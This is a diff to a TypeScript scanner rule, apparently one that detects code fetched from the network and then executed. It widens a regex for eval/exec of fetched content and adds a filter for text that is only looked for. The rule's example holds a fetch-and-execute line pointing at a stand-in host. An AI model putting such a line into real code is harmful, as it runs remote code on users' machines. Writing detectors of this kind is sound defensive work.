@@ -1,9 +1,11 @@
 /** Code from the network that is run unseen. */
+import type { Fact } from "../facts.ts";
 import { fetcher, shellName } from "./_pieces.ts";
 import { knownInstaller } from "./_installers.ts";
-import { re, rulesOf, run, runOrTold } from "./rule_row.ts";
+import { onlyLookedFor, re, rulesOf, run, runOrTold } from "./rule_row.ts";
 
-const unknownSource = (found: RegExpExecArray): boolean => !knownInstaller(found[0]);
+const unknownSource = (found: RegExpExecArray, fact: Fact): boolean =>
+  !knownInstaller(found[0]) && !onlyLookedFor(found, fact);
 
 export const remoteExecution = rulesOf("remote-execution", {
   why: "Whoever controls the address decides what runs here, today or after a later change.",
@@ -79,7 +81,7 @@ export const remoteExecution = rulesOf("remote-execution", {
     title: "A program evaluates what it fetches",
     on: runOrTold,
     pattern:
-      /(?:\b(?:exec|eval|compile|runInThisContext|runInNewContext)\s?\(|new Function\s?\()\s{0,9}(?:await\s|\(|compile\(){0,4}\s?(?:requests?\.(?:get|post)|httpx\.get|urllib\d?\.(?:request\.)?urlopen|urlopen|fetch|axios(?:\.get)?|__import__\(["']urllib|http\.get|got)\s?\(/i,
+      /(?:\b(?:exec|eval|compile|runInThisContext|runInNewContext)\s?\(|new Function\s?\()\s{0,9}(?:await\s|\(|compile\(){0,4}\s?(?:requests?\.(?:get|post)|httpx\.get|urllib\d?\.(?:request\.)?urlopen|(?:\w{1,20}\.){0,2}urlopen|fetch|axios(?:\.get)?|__import__\(["']urllib|http\.get|got)\s?\(/i,
     example: "exec(requests.get('https://cdn.agent-kit.example/p.py').text)",
     nearMiss: "data = json.loads(requests.get('https://api.agent-kit.example/v1').text)",
   },
